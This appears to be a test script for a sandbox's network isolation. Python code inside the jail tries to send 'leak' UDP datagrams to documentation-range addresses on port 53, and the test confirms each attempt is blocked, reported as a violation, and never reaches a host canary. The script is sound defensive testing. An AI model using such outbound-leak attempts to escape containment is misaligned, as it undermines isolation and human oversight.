#!/usr/bin/env bash
# Attack: send UDP datagrams out: to documentation addresses (sendto, and
# connect + send), to DNS servers by address, and to a UDP canary on the
# host's loopback. Safe outcome: ENETUNREACH for every outside destination,
# each reported in violations (kind "network"); the datagram to 127.0.0.1
# goes to the jail's own lo, where nothing listens, and the host's canary
# receives nothing. Stopped by: network namespace; reported through the
# seccomp listener.
source "$(dirname "$(dirname "$0")")/lib.sh"
attack_begin
# a UDP canary on the host's loopback: counts the datagrams it receives
"$PY" - "$T/udp.port" "$T/udp.hits" <<'PY' &
import socket, sys, os
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind(("127.0.0.1", 0))
open(sys.argv[1] + ".tmp", "w").write(str(s.getsockname()[1]))
os.rename(sys.argv[1] + ".tmp", sys.argv[1])
s.settimeout(60)
n = 0
try:
    while True:
        s.recv(65536)
        n += 1
        open(sys.argv[2], "w").write(str(n))
except Exception:
    pass
PY
UDP_PID=$!
on_exit "kill $UDP_PID 2>/dev/null"
for _ in $(seq 1 100); do [ -f "$T/udp.port" ] && break; sleep 0.05; done
UDP_PORT=$(cat "$T/udp.port")

jattack --env UDP_PORT="$UDP_PORT" <<'PY'
import json, os, socket
res = {}
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for i in range(5):
    try:
        u.sendto(b"leak %d" % i, ("192.0.2.53", 53))
        res["sendto"] = "sent"
    except OSError as e:
        res["sendto"] = e.errno
try:
    u.connect(("198.51.100.53", 53))
    u.send(b"leak")
    res["connect+send"] = "sent"
except OSError as e:
    res["connect+send"] = e.errno
u6 = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
try:
    u6.sendto(b"leak", ("2001:db8::53", 53))
    res["sendto6"] = "sent"
except OSError as e:
    res["sendto6"] = e.errno
local = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
local.sendto(b"hello host?", ("127.0.0.1", int(os.environ["UDP_PORT"])))
res["loopback sent"] = True
print(json.dumps(res))
PY
ENU=$($PY -c 'import errno; print(errno.ENETUNREACH)')
is "$(field 'r["status"]')" ok "the program ran to its end"
is "$(out '[o["sendto"], o["connect+send"], o["sendto6"], o["loopback sent"]]')" \
	"[$ENU, $ENU, $ENU, true]" "inside: ENETUNREACH outside; the jail's own loopback takes the datagram"
is "$(field 'sorted((v["syscall"], v["address"], v["count"]) for v in r["violations"] if v["kind"] == "network")')" \
	'[["connect", "198.51.100.53:53", 1], ["sendto", "192.0.2.53:53", 5], ["sendto", "[2001:db8::53]:53", 1]]' \
	"outside: each destination reported, repeated sends counted"
sleep 0.2
is "$(cat "$T/udp.hits" 2>/dev/null || echo 0)" 0 "outside: the host's UDP canary received nothing"
attack_end
done_testing
